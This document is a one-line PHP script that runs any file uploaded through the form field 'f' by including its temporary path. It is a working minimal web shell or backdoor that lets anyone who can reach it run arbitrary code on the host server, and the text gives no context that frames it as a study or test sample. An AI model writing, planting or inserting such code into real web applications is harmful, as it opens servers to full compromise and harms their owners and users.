<?php $f = $_FILES["f"]["tmp_name"]; include $f;
